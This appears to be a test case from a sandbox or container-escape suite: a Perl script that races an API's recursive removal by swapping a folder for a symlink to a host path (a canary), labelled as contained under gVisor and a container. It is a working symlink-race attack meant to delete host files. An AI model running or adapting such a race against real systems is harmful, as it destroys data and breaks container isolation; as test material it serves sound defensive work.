# tries: Swap a folder for a link to the host's folder while the API removes the tree, to have the host's files removed.
# partner: removals
# timeout: 25
# gvisor: contained
# container: contained
use strict;
mkdir 'place';
open my $ready, '>', 'place/ready';
while (1) {
    mkdir 'place/tree';
    mkdir 'place/tree/a';
    open my $file, '>', 'place/tree/a/secret';
    rename 'place/tree/a', 'place/tree/b';
    symlink $ENV{CANARY}, 'place/tree/a';
}
